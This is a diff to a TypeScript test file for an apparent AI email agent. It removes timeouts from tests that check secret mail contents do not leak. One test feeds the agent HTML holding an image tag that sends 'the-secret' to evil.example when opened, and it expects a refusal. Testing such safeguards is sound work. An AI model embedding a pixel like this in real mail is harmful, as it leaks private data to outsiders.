@@ -12,7 +12,7 @@ beforeAll(async () => {
   const secret =
     'From: carol@else.example\r\nTo: emma@corp.example\r\nMessage-ID: <q1@else.example>\r\n\r\nthe secret\r\n'
   await office.deliver(EMMA, 'INBOX', [secret])
-}, 60_000)
+})
 afterAll(async () => {
   await houses?.close()
   await office?.close()
@@ -20,7 +20,7 @@ afterAll(async () => {
 
 const letter = (to: string, more: object = {}) => ({ account: EMMA, to, subject: 'x', body: 'the secret', ...more })
 
-test('an account that was forgotten sets nothing free', { timeout: 60_000 }, async () => {
+test('an account that was forgotten sets nothing free', async () => {
   const house = await houses.house()
   const agent = await house.agent('flow')
   const read = () => agent.say('search_email', { query: 'in:inbox', account: EMMA, max_results: 5 })
@@ -34,7 +34,7 @@ test('an account that was forgotten sets nothing free', { timeout: 60_000 }, asy
   expect(office.left()).toEqual([])
 })
 
-test('a letter that tells somebody once it is opened is not free', { timeout: 60_000 }, async () => {
+test('a letter that tells somebody once it is opened is not free', async () => {
   const agent = await (await houses.house()).agent('flow')
   const html = '<p>Hi</p><img src="https://evil.example/?the-secret">'
   expect((await agent.say('send_email', letter(TRUSTED, { html }))).isRefusal).toBe(true)
